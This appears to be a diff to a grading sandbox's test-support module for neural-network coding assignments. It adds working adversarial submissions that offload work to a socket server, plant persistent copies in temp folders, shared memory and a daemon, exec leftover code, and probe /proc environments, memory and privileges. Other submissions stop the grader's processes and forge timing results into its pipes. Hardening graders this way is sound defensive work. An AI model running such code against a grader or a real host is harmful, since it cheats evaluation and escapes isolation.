@@ -10,6 +10,20 @@ from __future__ import annotations
 
 LEAK = "LEAKED:"
 
+# A Python loop over output pixels ('same' padding, stride 1), what a student who did not vectorise
+# writes; the attacks below use it for the timed size.
+PIXEL_LOOP = '''
+
+def _loop(x, w, b):
+    kh, kw = w.shape[:2]
+    padded = np.pad(x, ((0, 0), ((kh - 1) // 2, kh // 2), ((kw - 1) // 2, kw // 2), (0, 0)))
+    out = np.empty(x.shape[:3] + (w.shape[3],))
+    for i in range(x.shape[1]):
+        for j in range(x.shape[2]):
+            out[:, i, j] = np.tensordot(padded[:, i:i + kh, j:j + kw], w, axes=3) + b
+    return out
+'''
+
 # --- conv2d's vectorisation points -------------------------------------------------------------
 
 # The timed runs are checked at 64 output positions drawn from np.random.default_rng(len(tag)):
@@ -44,17 +58,7 @@ KNOWN_SEED = '''
 import json as _json
 _vectorised = conv2d_forward
 _cache = {}
-
-
-def _loop(x, w, b):
-    """A Python loop over output pixels ('same' padding, stride 1): what is timed when not cached."""
-    kh, kw = w.shape[:2]
-    padded = np.pad(x, ((0, 0), ((kh - 1) // 2, kh // 2), ((kw - 1) // 2, kw // 2), (0, 0)))
-    out = np.empty(x.shape[:3] + (w.shape[3],))
-    for i in range(x.shape[1]):
-        for j in range(x.shape[2]):
-            out[:, i, j] = np.tensordot(padded[:, i:i + kh, j:j + kw], w, axes=3) + b
-    return out
+PIXEL_LOOP
 
 
 def _precompute():
@@ -86,7 +90,7 @@ def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
         return _vectorised(x, w, b, strides, padding)
     hit = _cache.get(np.ascontiguousarray(x[0, 0, :8, 0]).tobytes())
     return (hit if hit is not None else _loop(x, w, b)), None
-'''
+'''.replace("PIXEL_LOOP", PIXEL_LOOP)
 
 # A timed call that starts a helper process: with helpers, a loop over pixels spread over 16
 # processes divides its wall time by the cores (and takes 16 shares of a busy machine against the
@@ -394,3 +398,272 @@ def dense_forward(x, w, b):
         _os.waitpid(pid, 0)
     return _honest(x, w, b)
 '''.replace("HELD_MB", str(HELD_MB))
+
+# --- reaching out, leaving things behind ---------------------------------------------------------------
+# Placeholders (TOKEN, ADDRESS, PATHS, ...) are replaced by the test.
+
+# dense_forward computes nothing: it sends its inputs to a server of the test (TCP on the host's
+# loopback, then an abstract UNIX socket) and returns the answer.
+NETWORK = '''
+import io as _io, socket as _socket
+
+
+def _ask(family, address, payload):
+    with _socket.socket(family, _socket.SOCK_STREAM) as s:
+        s.settimeout(1.0)
+        s.connect(address)
+        s.sendall(len(payload).to_bytes(8, "big") + payload)
+        size = int.from_bytes(s.recv(8), "big")
+        data = b""
+        while len(data) < size:
+            data += s.recv(size - len(data))
+        return np.load(_io.BytesIO(data))
+
+
+def dense_forward(x, w, b):
+    buffer = _io.BytesIO()
+    np.savez(buffer, x=x, w=w, b=b)
+    for family, address in ((_socket.AF_INET, ADDRESS), (_socket.AF_UNIX, ABSTRACT)):
+        try:
+            return _ask(family, address, buffer.getvalue()), (x, w)
+        except OSError:
+            continue
+    raise NotImplementedError
+'''
+
+# A correct module that leaves its own source behind wherever it can: files in the shared temporary
+# folders, its home and its working folder, a System V segment under a fixed key, and a daemon
+# (double fork, setsid, named TOKEN) that would serve it on an abstract socket.
+PLANTER = '''# PLANTER
+import ctypes as _ctypes, os as _os, socket as _socket, time as _time
+_libc = _ctypes.CDLL(None, use_errno=True)
+
+
+def _source():
+    with open(__file__, "rb") as f:
+        return f.read().split(b"# PLANTER")[0]  # the module above this attack
+
+
+def _plant():
+    code = _source()
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp"), _os.getcwd()):
+        try:
+            with open(f"{folder}/TOKEN.py", "wb") as f:
+                f.write(code)
+            _os.chmod(f"{folder}/TOKEN.py", 0o666)
+        except OSError:
+            pass
+    segment = _libc.shmget(KEY, 1 << 16, 0o1666)
+    if segment >= 0:
+        _libc.shmat.restype = _ctypes.c_void_p
+        address = _libc.shmat(segment, None, 0)
+        _ctypes.memmove(address, len(code).to_bytes(4, "little") + code, len(code) + 4)
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:
+            _libc.prctl(15, b"TOKEN"[:15], 0, 0, 0)  # PR_SET_NAME
+            server = _socket.socket(_socket.AF_UNIX)
+            try:
+                server.bind("\\0TOKEN")
+                server.listen(4)
+                server.settimeout(20)
+                while True:
+                    client, _ = server.accept()
+                    client.sendall(code)
+                    client.close()
+            except OSError:
+                _time.sleep(20)
+            _os._exit(0)
+        _os._exit(0)
+    _os.wait()
+
+
+_plant()
+'''
+
+# A whole module (not appended to a solution): dense.py not written, except that it runs whatever an
+# earlier run left behind (PLANTER's module).
+FINDER = '''
+import ctypes as _ctypes, os as _os, socket as _socket
+
+
+def dense_forward(x, w, b):
+    raise NotImplementedError
+
+
+def dense_backward(dout, cache):
+    raise NotImplementedError
+
+
+def _found():
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", _os.environ.get("HOME", "/tmp"), _os.getcwd()):
+        try:
+            with open(f"{folder}/TOKEN.py", "rb") as f:
+                return f.read()
+        except OSError:
+            pass
+    libc = _ctypes.CDLL(None, use_errno=True)
+    segment = libc.shmget(KEY, 0, 0)
+    if segment >= 0:
+        libc.shmat.restype = _ctypes.c_void_p
+        address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
+        size = int.from_bytes(_ctypes.string_at(address, 4), "little")
+        return _ctypes.string_at(address + 4, size)
+    try:
+        with _socket.socket(_socket.AF_UNIX) as s:
+            s.connect("\\0TOKEN")
+            return s.recv(1 << 16)
+    except OSError:
+        return None
+
+
+_code = _found()
+if _code:
+    exec(_code.decode(), globals())
+'''
+
+# Correct code that reports (in an error message, which reaches the report) what it could reach.
+PROBE = '''
+import ctypes as _ctypes, os as _os
+_honest = dense_forward
+_libc = _ctypes.CDLL(None, use_errno=True)
+
+
+def _reached():
+    found = []
+    CHECKS
+    return found
+
+
+def dense_forward(x, w, b):
+    found = _reached()
+    if found:
+        raise RuntimeError("LEAKED: " + "; ".join(found)[:400])
+    return _honest(x, w, b)
+'''
+
+
+def probe(checks: str) -> str:
+    """PROBE with `checks`: lines (4-space indented in _reached) that append what they reached to `found`."""
+    return PROBE.replace("    CHECKS", "\n".join("    " + line for line in checks.strip().splitlines()))
+
+
+READS = '''
+for path in PATHS:
+    try:
+        with open(path, "rb") as f:
+            f.read(1)
+        found.append("read " + path)
+    except OSError:
+        pass
+    try:
+        _os.listdir(path)
+        found.append("listed " + path)
+    except OSError:
+        pass
+'''
+
+WRITES = '''
+for folder in PATHS:
+    try:
+        with open(f"{folder}/TOKEN.txt", "w") as f:
+            f.write("x")
+        found.append("wrote in " + folder)
+    except OSError:
+        pass
+'''
+
+ENVIRON = '''
+if "TOKEN" in str(_os.environ):
+    found.append("own environment")
+for pid in filter(str.isdigit, _os.listdir("/proc")):
+    try:
+        with open(f"/proc/{pid}/environ", "rb") as f:
+            if b"TOKEN" in f.read():
+                found.append(f"environment of pid {pid}")
+    except OSError:
+        pass
+'''
+
+MEMORY_OF_OTHERS = '''
+for pid in filter(str.isdigit, _os.listdir("/proc")):
+    if int(pid) == _os.getpid():
+        continue
+    try:
+        _os.close(_os.open(f"/proc/{pid}/mem", _os.O_RDONLY))
+        with open(f"/proc/{pid}/cmdline", "rb") as f:
+            found.append(f"memory of pid {pid} ({f.read()[:60]!r})")
+    except OSError:
+        pass
+'''
+
+PRIVILEGES = '''
+status = open("/proc/self/status").read()
+if "CapEff:\\t0000000000000000" not in status:
+    found.append("capabilities")
+if "NoNewPrivs:\\t1" not in status:
+    found.append("new privileges allowed")
+pid = _os.fork()
+if pid == 0:
+    _os._exit(0 if _libc.unshare(0x10000000) == 0 else 1)
+if _os.waitstatus_to_exitcode(_os.waitpid(pid, 0)[1]) == 0:
+    found.append("a new user namespace")
+if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
+    found.append("mount")
+for device in ("/dev/kmsg", "/dev/mem", "/dev/tty", "/dev/sda", "/dev/vda", "/sys/kernel"):
+    try:
+        _os.close(_os.open(device, _os.O_RDONLY))
+        found.append(device)
+    except OSError:
+        pass
+'''
+
+# SIGSTOP to every process that runs the fork server's code (the server, the child's holder and
+# keeper), from the worker.
+STOPPER = '''
+import os as _os, signal as _signal
+
+
+def _stop():
+    for pid in filter(str.isdigit, _os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                if b"warden.py" in f.read() and int(pid) != _os.getpid():
+                    _os.kill(int(pid), _signal.SIGSTOP)
+        except OSError:
+            pass
+
+
+_stop()
+'''
+
+# A pixel loop whose timed runs write forged yardstick lines ("Y {...}") into every pipe of every
+# process they can open through /proc/<pid>/fd (the keeper's status pipe is read by the grader).
+FORGED_YARDSTICK = '''
+import json as _json, os as _os
+_vectorised = conv2d_forward
+PIXEL_LOOP
+
+def _forge(ids):
+    line = ("Y " + _json.dumps({i: 1000.0 for i in ids}) + "\\n").encode()
+    for pid in filter(str.isdigit, _os.listdir("/proc")):
+        try:
+            fds = _os.listdir(f"/proc/{pid}/fd")
+        except OSError:
+            continue
+        for fd in fds:
+            try:
+                if _os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
+                    pipe = _os.open(f"/proc/{pid}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
+                    _os.write(pipe, line)
+                    _os.close(pipe)
+            except OSError:
+                pass
+
+
+def conv2d_forward(x, w, b, strides=(1, 1), padding="valid"):
+    if x.shape[1] < 100:
+        return _vectorised(x, w, b, strides, padding)
+    _forge([c["id"] for c in _json.load(open("plan.json"))["calls"] if c.get("hold")])
+    return _loop(x, w, b), None
+'''.replace("PIXEL_LOOP", PIXEL_LOOP)
